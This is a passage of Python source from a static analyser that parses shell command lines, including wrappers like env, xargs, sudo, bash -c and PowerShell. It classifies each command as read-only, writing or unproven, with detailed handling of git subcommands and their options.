        rest = args[found[0]:]
        split = _split_value(found[1])
        if numeric_first:
            if not rest or not rest[0].static:
                return _unknown()
            rest = rest[1:]
        if not rest:
            v = _an_read() if capped is None else _unknown(capped)
        else:
            v = _payload(rest, ctx)
            v = v.cap(capped) if capped else v
        return _unsplit(v, split)
    return handler


def _w_command(name: str, args: List[_W], ctx: _Ctx) -> _V:
    if args and args[0].static and args[0].text in ("-v", "-V"):
        return _an_read()
    rest = args
    while rest and rest[0].static and rest[0].text in ("-p", "--"):
        rest = rest[1:]
    return _payload(rest, ctx) if rest else _an_read()


def _w_env(name: str, args: List[_W], ctx: _Ctx) -> _V:
    capped: Optional[str] = None
    folders: List[_W] = []
    split: Optional[_W] = None
    i = 0
    while i < len(args):
        w = args[i]
        if w.opaque:
            return _unknown("shell_syntax_unproven")
        t = w.text
        if t in ("-i", "--ignore-environment", "-0", "--null", "-"):
            i += 1
        elif t in ("-u", "--unset", "-C", "--chdir"):
            if split is None and i + 1 < len(args) and _may_split(args[i + 1]):
                split = args[i + 1]
            if t in ("-C", "--chdir") and i + 1 < len(args):
                folders.append(args[i + 1])
            i += 2
        elif t.startswith(("--unset=", "--chdir=")) or (t.startswith(("-u", "-C")) and len(t) > 2):
            if t.startswith(("--chdir=", "-C")):
                folders.append(_lit(t.split("=", 1)[1] if t.startswith("--") else t[2:])
                               if w.static else _W("\0", dyn=True))
            i += 1
        elif t == "--":
            i += 1
            break
        elif t.startswith("-"):
            return _unknown()
        elif "=" in t and _is_name(t.split("=", 1)[0]):
            key, _, val = t.partition("=")
            if capped is None and not _env_ok(key, _lit(val)):
                capped = key
            i += 1
        else:
            break
    rest = args[i:]
    if not rest:
        return _unsplit(_an_read(), split)
    v = _unsplit(_in_dir(_payload(rest, ctx), folders), split)
    return v.cap("state_change", ("env", capped)) if capped else v


# Programs that run the command in their arguments: (options that take a value,
# positional words before the command).  What they run is never proven here,
# but its hash and dependency intent is its own.
_RUNNERS: Dict[str, Tuple[Tuple[str, ...], int]] = {
    "watch": (("-n", "--interval", "-d", "--differences"), 0),
    "strace": (("-o", "-e", "-p", "-s", "-u"), 0), "ltrace": (("-o", "-e", "-p", "-s"), 0),
    "ionice": (("-c", "-n", "-p"), 0), "chrt": (("-p",), 1), "taskset": (("-p",), 1),
    "flock": (("-w", "--timeout", "-E"), 1), "unbuffer": ((), 0), "setsid": ((), 0),
    "chronic": ((), 0), "fakeroot": ((), 0), "firejail": ((), 0), "proxychains": (("-f",), 0),
    "proxychains4": (("-f",), 0), "torsocks": ((), 0), "valgrind": ((), 0),
    "caffeinate": (("-t", "-w"), 0), "sem": (("-j", "--jobs", "--id"), 0),
    "parallel": (("-j", "--jobs", "-S", "--sshlogin", "-a", "--arg-file", "--delay"), 0),
}
# `poetry run CMD`, `uv run CMD`, `conda run -n env CMD`, `bundle exec CMD`:
# the command runs in the project's environment.
_ENV_RUN_VALUED = ("-n", "--name", "-p", "--prefix", "--python", "--with", "--with-editable",
                   "--with-requirements", "--env-file", "--directory", "--project", "--package",
                   "-e", "--env", "--extra", "--group", "--environment", "--manifest-path")


def _run_inner(args: List[_W], ctx: _Ctx, valued: Tuple[str, ...] = _ENV_RUN_VALUED,
               positional: int = 0) -> _V:
    """The intents of the command a runner starts (its verdict: never a read)."""
    i = 0
    while i < len(args):
        t = args[i].text
        if t == "--":
            i += 1
            break
        if t.startswith("-"):
            i += 2 if t in valued else 1
            continue
        if positional:
            positional -= 1
            i += 1
            continue
        break
    rest = [w for w in args[i:] if w.text not in (":::", "::::", ":::+")][:len(args)]
    if ":::" in [w.text for w in args[i:]]:
        rest = args[i:i + [w.text for w in args[i:]].index(":::")]
    if not rest:
        return _unknown()
    return _payload(rest, ctx).cap("shell_command_unproven")


def _w_runner(name: str, args: List[_W], ctx: _Ctx) -> _V:
    if [w.text for w in args] in (["--version"], ["-v"], ["-V"]):
        return _an_read()
    valued, positional = _RUNNERS[name]
    inner = _run_inner(args, ctx, valued, positional)
    return _V("unknown", "shell_command_unproven", hash_=inner.hash, dep=inner.dep) \
        if inner.mut != "write" else inner


def _in_dir(v: _V, folders: List[_W]) -> _V:
    """Targets of a program that first moves to `folders`, one after the
    other (git -C a -C b, env -C, sudo -D, tar -C), named from here.  An
    expansion among them leaves the folder unknown."""
    if not folders or not (v.targets or v.patterns or v.pending):
        return v
    prefix: Optional[str] = ""
    for w in folders:
        prefix = _cd_join(prefix, w.text if w.static else None)[0]
    placed: List[str] = []
    for t in v.targets:
        if _fixed(t):
            placed.append(t)
        elif prefix is None:
            v.opaque = True
        else:
            placed.append(_cd_join(prefix, t)[0] or t)
    v.targets = placed
    patterns: List[str] = []
    for p in v.patterns:
        if _fixed(p):
            patterns.append(p)
        elif prefix is None:
            v.opaque = True
        else:
            patterns.append(_glob_escape(prefix.rstrip("/")) + "/" + p if prefix else p)
    v.patterns = patterns
    if v.pending and prefix != "":
        # Words not resolved yet would be read from the wrong folder.
        v.opaque, v.pending = True, []
    return v


def _wrapper_option(opts: List[_W], short: str, long: str, valued: str) -> List[_W]:
    """Every value of a wrapper's option (`-D dir`, `-Ddir`, `--chdir=dir`,
    `--chdir dir`) among the option words before its payload; `valued` are
    the letters that take a value, which ends a cluster."""
    found: List[_W] = []
    i = 0
    while i < len(opts):
        w = opts[i]
        t = w.text
        i += 1
        if t == long:
            if i < len(opts):
                found.append(opts[i])
                i += 1
        elif t.startswith(long + "="):
            found.append(_lit(t[len(long) + 1:]) if w.static else _W("\0", dyn=True))
        elif t.startswith("-") and not t.startswith("--"):
            for k in range(1, len(t)):
                if t[k] in valued:
                    value = t[k + 1:]
                    if t[k] == short:
                        if value:
                            found.append(_lit(value) if w.static else _W("\0", dyn=True))
                        elif i < len(opts):
                            found.append(opts[i])
                    if not value:
                        i += 1
                    break
    return found


# --eof, --max-lines and --replace take their value only after "=": a
# separate word is already the command (`xargs --replace rm cat` runs rm).
_XARGS = _Opts(
    "-0rtxpo -nLPsdEaI: --max-args: --max-procs: --max-chars: --delimiter: --arg-file: "
    "--process-slot-var: --null --no-run-if-empty --verbose --exit --interactive --open-tty "
    "--eof? --max-lines? --replace?",
    permute=False, abbrev=False)


def _w_xargs(name: str, args: List[_W], ctx: _Ctx) -> _V:
    found = _wrapper_start(args, _XARGS)
    if found is None:
        return _unknown()
    start, seen = found
    # The replace string of -I in every spelling (`-I X`, `-IX`, `-0I X`,
    # `--replace=X`); a bare `--replace` means {}.
    replace = None
    for opt, value, _ in seen:
        if opt in ("I", "replace"):
            replace = value.text if value is not None else "{}"
    rest = list(args[start:]) or [_lit("echo")]
    if replace:
        if replace in rest[0].text:
            return _unknown()   # BSD xargs may substitute into the utility name too
        rest = [rest[0]] + [_STDIN_ITEM if replace in w.text else w for w in rest[1:]]
    else:
        rest.append(_STDIN_ITEM)
    return _unsplit(_payload(rest, ctx), _split_value(seen))


def _shell_flags_ok(flag: str) -> bool:
    return flag.startswith("-") and all(ch in "eulxc" for ch in flag[1:])


def _w_sh(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """bash -c STRING: the string is parsed as its own line."""
    if len(args) == 1 and args[0].static and args[0].text in ("--version", "-version"):
        return _an_read()
    i = 0
    has_c = False
    while i < len(args):
        w = args[i]
        if not w.static:
            return _unknown()
        t = w.text
        if t in ("-o", "+o") and i + 1 < len(args) and args[i + 1].text == "pipefail":
            i += 2
            continue
        if _shell_flags_ok(t):
            has_c = has_c or "c" in t
            i += 1
            if has_c:
                break
            continue
        break
    if not has_c or i >= len(args):
        return _unknown()
    code = args[i]
    if not code.static:
        return _dynamic_code(code.text, ctx, _analyze_bash).blame("dyncode", name)
    return _analyze_bash(code.text, ctx.deeper())


def _dynamic_code(text: str, ctx: _Ctx, reader: Callable[[str, _Ctx], _V]) -> _V:
    """Code with expansions in it (`bash -c "sha256sum $f"`) is never proven, but
    what its known words do still counts: each expansion is read as a plain word."""
    inner = reader(text.replace("\0", "x"), ctx.deeper())
    return _V("unknown", "shell_syntax_unproven", hash_=inner.hash, dep=inner.dep)


def _w_other_shell(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """fish, nu, xonsh, tcsh... -c CODE: another shell's syntax, never proven, but
    what its words run (a digest, an install) is read as if it were sh."""
    texts = [w.text for w in args]
    if texts in (["--version"], ["-v"], ["-V"], ["version"]):
        return _an_read()
    for k, t in enumerate(texts):
        if t in ("-c", "--command", "-C") or (t.startswith("--command=")):
            code = t.split("=", 1)[1] if "=" in t else " ".join(texts[k + 1:k + 2])
            return _dynamic_code(code, ctx, _analyze_bash)
    return _unknown()


def _w_eval(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """eval runs its text in this shell: a cd inside moves the commands after it."""
    if not all(w.static for w in args):
        return _runs_here(_dynamic_code(" ".join(w.text for w in args), ctx,
                                        _analyze_bash).blame("dyncode", name))
    return _analyze_bash(" ".join(w.text for w in args), ctx.deeper())


def _runs_here(v: _V) -> _V:
    """A verdict for code run in this very shell that cannot be seen: after
    it the shell may be in any folder."""
    v.cd = ("any",)
    return v


def _w_pwsh(name: str, args: List[_W], ctx: _Ctx) -> _V:
    i = 0
    while i < len(args):
        w = args[i]
        if not w.static:
            return _unknown("shell_syntax_unproven")
        t = w.text.lower()
        if t in ("-noprofile", "-nop", "-noninteractive", "-nologo", "-noni"):
            i += 1
            continue
        if t in ("-executionpolicy", "-ep") and i + 1 < len(args):
            if _may_split(args[i + 1]):
                return _unknown("shell_syntax_unproven", "opaque", args[i + 1].text)
            i += 2
            continue
        if t in ("-command", "-c") and i + 1 < len(args):
            rest = args[i + 1:]
            if not all(x.static for x in rest):
                return _dynamic_code(" ".join(x.text for x in rest), ctx, _analyze_powershell)
            return _analyze_powershell(" ".join(x.text for x in rest), ctx.deeper())
        if t in ("-encodedcommand", "-enc", "-e", "-ec") and i + 1 < len(args):
            import binascii
            try:
                code = binascii.a2b_base64(args[i + 1].text).decode("utf-16-le")
            except (ValueError, UnicodeDecodeError):
                return _unknown("shell_syntax_unproven")
            return _analyze_powershell(code, ctx.deeper())
        if t in ("-version", "--version", "-v"):
            return _an_read()
        return _unknown()
    return _unknown()


def _w_cmd(name: str, args: List[_W], ctx: _Ctx) -> _V:
    if args and args[0].static and args[0].text.lower() in ("/c", "/k"):
        rest = args[1:]
        if rest and all(x.static for x in rest):
            return _analyze_cmd(" ".join(x.text for x in rest), ctx.deeper())
        if rest:
            return _dynamic_code(" ".join(x.text for x in rest), ctx, _analyze_cmd)
    return _unknown()


_SUDO = _Opts("-EHnkSAbP -ugCDhprtT: --user: --group: --chdir: --preserve-env? "
              "--non-interactive", permute=False, abbrev=False)


def _w_sudo(name: str, args: List[_W], ctx: _Ctx) -> _V:
    found = _wrapper_start(args, _SUDO)
    if found is None or found[0] >= len(args):
        return _unknown()
    start, seen = found
    folders = [value for opt, value, _ in seen if opt in ("D", "chdir") and value is not None]
    v = _in_dir(_payload(args[start:], ctx), folders[-1:]).cap("shell_command_unproven")
    return _unsplit(v, _split_value(seen))


# ---- git --------------------------------------------------------------------

_GIT_GLOBAL_FLAGS = frozenset(("--no-pager", "-P", "--literal-pathspecs", "--no-optional-locks",
                               "--no-replace-objects", "--glob-pathspecs", "--noglob-pathspecs",
                               "--icase-pathspecs", "--no-advice"))
_GIT_WRITE_SUBS = frozenset((
    "add", "commit", "push", "merge", "rebase", "checkout", "switch", "reset", "restore", "clean",
    "rm", "mv", "cherry-pick", "revert", "am", "apply", "init", "clone", "fetch", "pull", "gc",
    "prune", "update-ref", "update-index", "commit-tree", "write-tree", "mktag", "mktree",
    "replace", "filter-branch", "bisect", "fast-import", "repack", "maintenance",
    "sparse-checkout", "pack-refs", "merge-file", "read-tree", "checkout-index", "stage",
    "citool", "gui", "mergetool", "difftool", "request-pull", "send-email", "svn", "p4",
    "filter-repo", "lfs",
))
_GIT_TARGET_SUBS = frozenset(("checkout", "restore", "rm", "mv", "add", "stage", "clean"))

# Options of the revision walk and diff machinery (log, show, diff, ...).
# 0 = flag; 1 = value, attached with '=' or as the next word; 2 = '=value' only.
_GIT_REV_LONG: Dict[str, int] = {}
for _names, _arity in (
    ("short branch show-stash no-index numstat shortstat name-only name-status check summary "
     "patch no-patch raw binary cached staged exit-code quiet no-color no-ext-diff no-textconv "
     "ignore-all-space ignore-space-change ignore-space-at-eol ignore-cr-at-eol "
     "ignore-blank-lines patience histogram minimal oneline all reverse first-parent no-merges "
     "merges graph no-decorate topo-order date-order author-date-order no-renames pickaxe-all "
     "pickaxe-regex no-prefix default-prefix full-index abbrev-commit no-abbrev-commit no-abbrev "
     "follow full-history simplify-merges simplify-by-decoration ancestry-path left-right "
     "left-only right-only cherry-pick cherry-mark cherry boundary relative-date log-size "
     "parents children notes no-notes show-notes standard-notes no-standard-notes "
     "show-signature source use-mailmap mailmap no-mailmap no-use-mailmap compact-summary "
     "cumulative text ita-invisible-in-index ita-visible-in-index merge-base cc "
     "combined-all-paths remerge-diff no-walk do-walk not branches tags remotes reflog "
     "single-worktree bisect stdin count objects objects-edge in-commit-order no-object-names "
     "dense sparse show-linear-break regexp-ignore-case basic-regexp extended-regexp "
     "fixed-strings perl-regexp invert-grep all-match no-min-parents no-max-parents "
     "walk-reflogs show-pulls full-diff irreversible-delete function-context no-relative "
     "indent-heuristic no-indent-heuristic ws-error-highlight color-moved-ws no-color-moved "
     "no-color-moved-ws long porcelain null renames ahead-behind no-ahead-behind "
     "find-copies-harder no-stat", 0),
    ("porcelain", 2),
    ("stat color word-diff color-words relative unified abbrev find-renames find-copies "
     "break-rewrites decorate pretty dirstat color-moved untracked-files ignored "
     "ignore-submodules submodule diff-merges no-walk", 2),
    ("format date encoding exclude glob min-parents max-parents", 2),
    ("word-diff-regex src-prefix dst-prefix line-prefix output-indicator-new "
     "output-indicator-old output-indicator-context diff-algorithm anchored "
     "ignore-matching-lines diff-filter stat-width stat-name-width stat-graph-width stat-count "
     "inter-hunk-context rotate-to skip-to find-object author committer grep since until "
     "before after max-count skip max-age min-age since-as-filter grep-reflog decorate-refs "
     "decorate-refs-exclude", 1),
):
    for _n in _names.split():
        _GIT_REV_LONG.setdefault(_n, _arity)
_GIT_REV_LONG["porcelain"] = 2
del _names, _arity, _n
_GIT_REV_DENY = {"output": "write", "ext-diff": "exec", "textconv": "exec",
                 "open-files-in-pager": "exec"}
_GIT_REV_SHORT_FLAGS = "pwsbzRuaWmcDqrtv"
_GIT_REV_SHORT_VAL = "SGOInL"       # value attached or next word
_GIT_REV_SHORT_NUM = "UMCBl"       # optional attached digits/percent


def _git_short_ok(t: str, flags: str, num: str) -> Optional[bool]:
    """True when the short option word is an accepted flag cluster."""
    body = t[1:]
    if body.isdigit():
        return True
    if body[:1] in num and all(ch in "0123456789%" for ch in body[1:]):
        return True
    if t in ("-uno", "-unormal", "-uall"):
        return True
    return all(ch in flags for ch in body) and len(set(body)) == len(body)


def _git_query(args: List[_W], longs: Dict[str, int], flags: str, short_val: str,
               num: str, deny: Dict[str, str], short_deny: str = "") -> _V:
    """The query grammar: unknown options are unproven, --output writes.

    A separate value that itself starts with '-' is also judged as an
    option, so a wrong guess about arity cannot hide one (only '--' is
    then taken as the value, which only ends option parsing for git).
    """
    result = _V()
    i, n = 0, len(args)
    while i < n:
        w = args[i]
        i += 1
        if w.opaque:
            return _unknown("shell_syntax_unproven", "opaque", w.text)
        t = w.text
        if t == "--":
            break
        if not t.startswith("-") or t == "-":
            continue
        if t.startswith("--"):
            key, eq, val = t[2:].partition("=")
            if key in deny:
                if deny[key] == "write":
                    value = _w_tail(w, len(key) + 3) if eq else (args[i] if i < n else None)
                    return _write([value] if value is not None else [],
                                  "git_output_file").blame("option", t)
                return _unknown("shell_execution_option", "option", t)
            arity = longs.get(key)
            if arity is None:
                return _unknown("git_arguments_unproven", "option", t)
            if eq and arity == 0:
                return _unknown("git_arguments_unproven", "option", t)
            if not eq and arity == 1:
                if i >= n:
                    return _unknown("option_value_missing", "option", t)
                value_w = args[i]
                i += 1
                if value_w.opaque:
                    return _unknown("shell_syntax_unproven")
                if value_w.text.startswith("-") and value_w.text != "--":
                    again = _git_query([value_w], longs, flags, short_val, num, deny, short_deny)
                    if again.mut != "read":
                        return again
            continue
        ch = t[1]
        if ch in short_deny:
            return _unknown("shell_execution_option", "option", t)
        if ch in short_val:
            if len(t) == 2 or (ch == "n" and not t[2:].isdigit() and len(t) > 2):
                if len(t) > 2:
                    return _unknown("git_arguments_unproven", "option", t)
                if i >= n:
                    return _unknown("option_value_missing", "option", t)
                value_w = args[i]
                i += 1
                if value_w.opaque:
                    return _unknown("shell_syntax_unproven")
                if value_w.text.startswith("-") and value_w.text != "--":
                    again = _git_query([value_w], longs, flags, short_val, num, deny, short_deny)
                    if again.mut != "read":
                        return again
            continue
        if not _git_short_ok(t, flags, num):
            return _unknown("git_arguments_unproven", "option", t)
    # Words after '--' are pathspecs and revisions: data only.
    return result


def _git_rev(args: List[_W]) -> _V:
    return _git_query(args, _GIT_REV_LONG, _GIT_REV_SHORT_FLAGS, _GIT_REV_SHORT_VAL,
                      _GIT_REV_SHORT_NUM, _GIT_REV_DENY)


_GIT_SIMPLE_LONG: Dict[str, Dict[str, int]] = {}
for _sub, _spec in (
    ("ls-files", "cached:0 deleted:0 modified:0 others:0 ignored:0 stage:0 unmerged:0 killed:0 "
                 "directory:0 no-empty-directory:0 eol:0 exclude-standard:0 exclude:1 "
                 "exclude-from:1 exclude-per-directory:1 error-unmatch:0 full-name:0 "
                 "recurse-submodules:0 abbrev:2 debug:0 deduplicate:0 format:1 with-tree:1 "
                 "sparse:0 resolve-undo:0 no-recurse-submodules:0 sparse:0"),
    ("ls-tree", "name-only:0 name-status:0 full-name:0 full-tree:0 object-only:0 long:0 "
                "abbrev:2 format:1"),
    ("blame", "porcelain:0 line-porcelain:0 incremental:0 show-email:0 show-number:0 "
              "show-name:0 root:0 reverse:0 date:1 abbrev:2 color-lines:0 color-by-age:0 "
              "ignore-rev:1 ignore-revs-file:1 contents:1 show-stats:0 minimal:0 score-debug:0 "
              "first-parent:0 progress:0 no-progress:0 encoding:1"),
    ("cat-file", "batch:2 batch-check:2 batch-command:2 batch-all-objects:0 follow-symlinks:0 "
                 "unordered:0 buffer:0 allow-unknown-type:0 use-mailmap:0 no-use-mailmap:0 "
                 "mailmap:0 path:1"),
    ("rev-parse", "abbrev-ref:2 short:2 verify:0 symbolic:0 symbolic-full-name:0 "
                  "show-toplevel:0 git-dir:0 absolute-git-dir:0 git-common-dir:0 "
                  "is-inside-work-tree:0 is-inside-git-dir:0 is-bare-repository:0 "
                  "is-shallow-repository:0 show-prefix:0 show-cdup:0 "
                  "show-superproject-working-tree:0 local-env-vars:0 git-path:1 sq:0 quiet:0 "
                  "all:0 branches:2 tags:2 remotes:2 default:1 since:1 until:1 after:1 "
                  "before:1 show-object-format:2 show-ref-format:0 revs-only:0 no-revs:0 "
                  "flags:0 no-flags:0 prefix:1 sq-quote:0 not:0 glob:1 exclude:1 "
                  "disambiguate:1 resolve-git-dir:1 shared-index-path:0 path-format:1"),
    ("describe", "all:0 tags:0 contains:0 abbrev:2 candidates:1 exact-match:0 debug:0 long:0 "
                 "match:1 exclude:1 always:0 first-parent:0 dirty:2 broken:2"),
    ("show-ref", "head:0 heads:0 branches:0 tags:0 verify:0 exists:0 hash:2 abbrev:2 "
                 "quiet:0 dereference:0 exclude-existing:2"),
    ("for-each-ref", "format:1 sort:1 count:1 points-at:1 merged:2 no-merged:2 contains:2 "
                     "no-contains:2 shell:0 perl:0 python:0 tcl:0 color:2 ignore-case:0 "
                     "omit-empty:0 exclude:1 include-root-refs:0 stdin:0"),
    ("merge-base", "all:0 octopus:0 independent:0 is-ancestor:0 fork-point:0"),
    ("name-rev", "tags:0 refs:1 exclude:1 all:0 annotate-stdin:0 name-only:0 no-undefined:0 "
                 "always:0 stdin:0"),
    ("count-objects", "verbose:0 human-readable:0"),
    ("check-ignore", "quiet:0 verbose:0 stdin:0 non-matching:0 no-index:0"),
    ("check-attr", "all:0 cached:0 stdin:0 source:1"),
    ("var", "list:0"),
    ("cherry", "abbrev:2"),
    ("grep", "cached:0 untracked:0 no-index:0 no-exclude-standard:0 exclude-standard:0 "
             "recurse-submodules:0 text:0 textconv:0 ignore-case:0 word-regexp:0 invert-match:0 "
             "full-name:0 extended-regexp:0 basic-regexp:0 perl-regexp:0 fixed-strings:0 "
             "line-number:0 column:0 files-with-matches:0 name-only:0 files-without-match:0 "
             "null:0 only-matching:0 count:0 color:2 no-color:0 break:0 heading:0 "
             "show-function:0 function-context:0 context:1 after-context:1 before-context:1 "
             "threads:1 file:1 and:0 or:0 not:0 all-match:0 quiet:0 max-depth:1 max-count:1 "
             "no-textconv:0 recursive:0 no-recursive:0 null:0"),
    ("shortlog", "numbered:0 summary:0 email:0 format:1 group:1 committer:0 c:0"),
    ("range-diff", "creation-factor:1 no-dual-color:0 left-only:0 right-only:0"),
    ("version", "build-options:0"),
):
    _GIT_SIMPLE_LONG[_sub] = {k: int(v) for k, v in (item.split(":") for item in _spec.split())}
del _sub, _spec

_GIT_SIMPLE_SHORT = {
    # sub: (flags, short options taking a value, short options with optional digits)
    "ls-files": ("cdmoiksutvfz", "x X", ""),
    "ls-tree": ("rtdlz", "", ""),
    "blame": ("bcflnpstwe", "L S", "MC"),
    "cat-file": ("tsepZ", "", ""),
    "rev-parse": ("q", "", ""),
    "describe": ("", "", ""),
    "show-ref": ("sdq", "", ""),
    "for-each-ref": ("s", "", ""),
    "merge-base": ("a", "", ""),
    "name-rev": ("", "", ""),
    "count-objects": ("vH", "", ""),
    "check-ignore": ("qvnz", "", ""),
    "check-attr": ("az", "", ""),
    "var": ("l", "", ""),
    "cherry": ("v", "", ""),
    "grep": ("ivwnlLhHcazoqEFGPrI", "efmABC", ""),
    "shortlog": ("nsec", "w", ""),
    "range-diff": ("", "", ""),
    "version": ("", "", ""),
}
_GIT_REV_SUBS = frozenset(("diff", "log", "show", "whatchanged", "diff-tree", "diff-index",
                           "diff-files", "rev-list", "status"))


def _git_simple(sub: str, args: List[_W]) -> _V:
    flags, vals, num = _GIT_SIMPLE_SHORT[sub]
    deny = {"output": "write", "textconv": "exec", "ext-diff": "exec",
            "open-files-in-pager": "exec"}
    if sub != "grep":
        deny.pop("open-files-in-pager")
    longs = _GIT_SIMPLE_LONG[sub]
    if sub in ("grep", "cat-file") and "textconv" in longs:
        longs = dict(longs)
        longs.pop("textconv")
    short_deny = "O" if sub == "grep" else ""
    return _git_query(args, longs, flags, vals.replace(" ", ""), num, deny, short_deny)


def _git_branch(args: List[_W]) -> _V:
    """git branch: listing is read, creation/deletion/moves are writes."""
    listing = False
    operand = False
    i, n = 0, len(args)
    write_long = ("--delete", "--move", "--copy", "--force", "--edit-description",
                  "--set-upstream-to", "--unset-upstream", "--track", "--no-track",
                  "--create-reflog", "--set-upstream", "--recurse-submodules")
    flag_long = ("--show-current", "--all", "--remotes", "--verbose", "--no-color", "--column",
                 "--no-column", "--ignore-case", "--omit-empty", "--no-abbrev", "--quiet")
    while i < n:
        w = args[i]
        i += 1
        if w.opaque:
            return _unknown("shell_syntax_unproven")
        t = w.text
        if t == "--":
            if i < n:
                operand = True
            break
        if not t.startswith("-") or t == "-":
            operand = True
            continue
        if t.startswith("--"):
            key = t.split("=", 1)[0]
            if key in write_long:
                return _write()
            if key == "--list":
                listing = True
            elif key in ("--contains", "--no-contains", "--merged", "--no-merged"):
                listing = True
                if "=" not in t and i < n and not args[i].text.startswith("-"):
                    i += 1
            elif key in ("--points-at", "--format", "--sort"):
                if key == "--points-at":
                    listing = True
                if "=" not in t:
                    if i >= n:
                        return _unknown("option_value_missing")
                    i += 1
            elif key in flag_long or t in ("--color=always", "--color=never", "--color=auto") \
                    or key in ("--abbrev", "--column"):
                pass
            else:
                return _unknown("git_arguments_unproven")
            continue
        body = t[1:]
        if any(ch in "dDmMcCf" for ch in body):
            return _write()
        if body and all(ch in "alrvq" for ch in body):
            listing = listing or "l" in body
            continue
        return _unknown("git_arguments_unproven")
    if operand and not listing:
        return _write()
    return _an_read()


def _git_tag(args: List[_W]) -> _V:
    listing = False
    operand = False
    i, n = 0, len(args)
    while i < n:
        w = args[i]
        i += 1
        if w.opaque:
            return _unknown("shell_syntax_unproven")
        t = w.text
        key = t.split("=", 1)[0]
        if t == "--":
            operand = operand or i < n
            break
        if not t.startswith("-") or t == "-":
            operand = True
        elif key in ("-l", "--list"):
            listing = True
        elif t.startswith("-n") and (len(t) == 2 or t[2:].isdigit()):
            listing = True
        elif key in ("--contains", "--no-contains", "--merged", "--no-merged", "--points-at",
                     "--sort", "--format"):
            # --sort and --format only shape a listing; they do not ask for one.
            listing = listing or key not in ("--sort", "--format")
            if "=" not in t:
                if i >= n:
                    return _unknown("option_value_missing")
                i += 1
        elif key in ("--column", "--no-column", "--ignore-case", "-i", "--omit-empty",
                     "--color", "--no-color"):
            pass
        elif key in ("-v", "--verify"):
            listing = True
        else:
            return _write()
    if operand and not listing:
        return _write()
    return _an_read()


def _git_config(args: List[_W]) -> _V:
    reads = ("--get", "--get-all", "--get-regexp", "--list", "-l", "--get-urlmatch",
             "--get-color", "--get-colorbool")
    neutral = ("--global", "--system", "--local", "--worktree", "--show-origin", "--show-scope",
               "--name-only", "-z", "--null", "--bool", "--int", "--path", "--bool-or-int",
               "--expiry-date", "--includes", "--no-includes")
    operands = []
    reading = False
    i = 0
    while i < len(args):
        w = args[i]
        i += 1
        if not w.static:
            return _unknown("shell_syntax_unproven")
        t = w.text
        key = t.split("=", 1)[0]
        if operands or t == "--":
            # git config stops parsing options at the first operand.
            if t != "--" or operands:
                operands.append(t)
            continue
        if key in reads:
            reading = True
        elif key in neutral or key == "--type":
            if key == "--type" and "=" not in t:
                i += 1
        elif key in ("--file", "-f", "--blob", "--default"):
            if "=" not in t:
                i += 1
        elif t.startswith("-"):
            return _write()
        else:
            operands.append(t)
    if operands and operands[0] in ("get", "list"):
        return _an_read()
    if operands and operands[0] in ("set", "unset", "rename-section", "remove-section", "edit"):
        return _write()
    if reading or len(operands) == 1:
        return _an_read()
    return _write()


def _git_stash(args: List[_W]) -> _V:
    if not args:
        return _write()
    sub = args[0].text
    if sub == "list":
        return _git_rev(args[1:])
    if sub == "show":
        return _git_rev(args[1:])
    return _write()


_GIT_READ_ACTIONS = {
    "remote": (("", "-v", "--verbose", "get-url", "show"), ("add", "remove", "rm", "rename",
               "set-url", "set-head", "set-branches", "prune", "update")),
    "worktree": (("list",), ("add", "remove", "prune", "move", "lock", "unlock", "repair")),
    "reflog": (("", "show", "exists"), ("expire", "delete")),
    "notes": (("", "list", "show"), ("add", "copy", "append", "edit", "merge", "remove",
              "prune")),
    "submodule": (("", "status", "summary"), ("add", "init", "deinit", "update", "sync",
                  "absorbgitdirs", "set-branch", "set-url")),
}


_GIT_KNOWN_SUBS = (_GIT_WRITE_SUBS | _GIT_REV_SUBS | frozenset(_GIT_SIMPLE_LONG)
                   | frozenset(_GIT_READ_ACTIONS)
                   | frozenset(("branch", "tag", "config", "stash", "hash-object", "format-patch",
                                "archive", "symbolic-ref", "help")))


def _git_action(sub: str, args: List[_W]) -> _V:
    reads, writes = _GIT_READ_ACTIONS[sub]
    if sub == "remote":
        # `git remote -v add x url` adds a remote: -v is an option of every
        # action, so the action is the first word after it.
        k = 0
        while k < len(args) and args[k].static and args[k].text in ("-v", "--verbose"):
            k += 1
        if k == len(args):
            return _an_read()
        args = args[k:]
    action = args[0].text if args else ""
    if sub == "reflog" and action.startswith("-"):
        return _git_rev(args)
    if args and not args[0].static:
        return _unknown("shell_syntax_unproven")
    if action in writes:
        return _write()
    if action not in reads:
        if action.startswith("-") and "" in reads and sub in ("remote",):
            return _an_read() if all(w.text in ("-v", "--verbose") for w in args) else \
                _unknown("git_arguments_unproven")
        return _unknown("git_arguments_unproven")
    if sub == "reflog":
        return _git_rev(args[1:] if action else args)
    if sub == "remote" and action == "show" and not all(w.static for w in args):
        return _unknown("network_data_unproven")   # it connects to the remote it names
    for w in args[1:]:
        if w.opaque or (w.text.startswith("-") and w.text not in ("-v", "--verbose",
                                                                   "--recursive", "-n")):
            return _unknown("git_arguments_unproven")
    return _an_read()


def _git_hash_object(args: List[_W]) -> _V:
    """hash-object prints an id; -w (also inside a cluster) stores the object."""
    i = 0
    while i < len(args):
        w = args[i]
        i += 1
        if w.opaque:
            return _unknown("shell_syntax_unproven")
        t = w.text
        if t == "--":
            break
        if not t.startswith("-"):
            continue
        if t.startswith("--"):
            if t in ("--stdin", "--stdin-paths", "--no-filters", "--literally"):
                continue
            if t.startswith("--path="):
                continue
            if t == "--path" and i < len(args):
                i += 1
                continue
            return _unknown("git_arguments_unproven")
        if "w" in t:
            return _write()
        if t == "-t" and i < len(args):
            i += 1
            continue
        if t.startswith("-t"):
            continue
        return _unknown("git_arguments_unproven")
    return _an_read()


def _git_symbolic_ref(args: List[_W]) -> _V:
    """symbolic-ref NAME reads; -d/--delete or a second operand changes the ref."""
    operands = 0
    i = 0
    while i < len(args):
        w = args[i]
        i += 1
        if w.opaque:
            return _unknown("shell_syntax_unproven")
        t = w.text
        if t in ("-d", "--delete"):
            return _write()
        if t == "-m":
            i += 1      # the reflog message of an update
        elif t in ("-q", "--quiet", "--short", "--recurse", "--no-recurse"):
            pass
        elif t.startswith("-"):
            return _unknown("git_arguments_unproven")
        else:
            operands += 1
    return _an_read() if operands <= 1 else _write()


def _git_targets(sub: str, args: List[_W]) -> List[_W]:
    if sub not in _GIT_TARGET_SUBS:
        return []
    texts = [w.text if w.static else None for w in args]
    if "--" in texts:
        return list(args[texts.index("--") + 1:])
    if sub in ("restore", "rm", "add", "stage", "mv"):
        return [w for w in args if not (w.static and w.text.startswith("-"))]
    if sub == "clean":
